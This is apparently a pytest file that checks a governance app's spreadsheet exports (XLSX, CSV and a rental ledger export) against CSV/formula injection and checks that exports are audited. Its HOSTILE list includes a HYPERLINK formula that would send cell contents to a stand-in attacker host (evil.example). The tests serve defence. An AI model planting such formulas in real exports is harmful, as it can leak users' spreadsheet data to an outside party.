"""Exports are formula-safe and audited (issue 12 item 15): a cell beginning with =, +, -, @, a
tab or a carriage return comes out as text, never a formula — in the core writer, and through
the 台账 export a community worker downloads."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from governance import exports
from governance.models import AuditEvent

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]


def test_xlsx_cells_that_look_like_formulas_are_text(world):
    content = exports.write_xlsx({"s": [["name"], *[[v] for v in HOSTILE], [-5], [3.5]]},
                                 actor=world.users["zhao_community"], action="export.test")
    ws = load_workbook(io.BytesIO(content)).active
    cells = [ws.cell(row=i, column=1) for i in range(2, 2 + len(HOSTILE))]
    assert [c.value.replace("\n", "\r") if c.value.startswith("\n") else c.value for c in cells] == HOSTILE  # XML keeps \r as \n
    assert {c.data_type for c in cells} == {"s"}  # never "f"
    assert ws.cell(row=2 + len(HOSTILE), column=1).value == -5  # numbers stay numbers
    assert AuditEvent.objects.filter(action="export.test", actor=world.users["zhao_community"]).exists()


def test_csv_cells_that_look_like_formulas_get_the_apostrophe(world):
    content = exports.write_csv([["name"], *[[v] for v in HOSTILE], [-5]], actor=world.users["zhao_community"],
                                action="export.test_csv")
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows[1:-1]] == ["'" + v for v in HOSTILE]
    assert rows[-1] == ["-5"]


@pytest.mark.parametrize("kind", ["rentals"])
def test_ledger_export_of_a_hostile_name_is_text(world, api_for, kind):
    from households.models import Rental
    from tests.households.conftest import flat

    unit = flat(world.grids[0], "和平里东街1号").unit
    Rental.objects.create(unit=unit, landlord_name=HOSTILE[0], starts_on="2026-01-01", ends_on="2027-01-01",
                          region_path=unit.region_path)
    response = api_for("zhao_community").get(f"/api/v1/households/exports/{kind}/")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)).active
    landlords = [row[1] for row in ws.iter_rows(min_row=2, values_only=False)]
    hostile = [c for c in landlords if c.value == HOSTILE[0]]
    assert hostile and all(c.data_type == "s" for c in hostile)
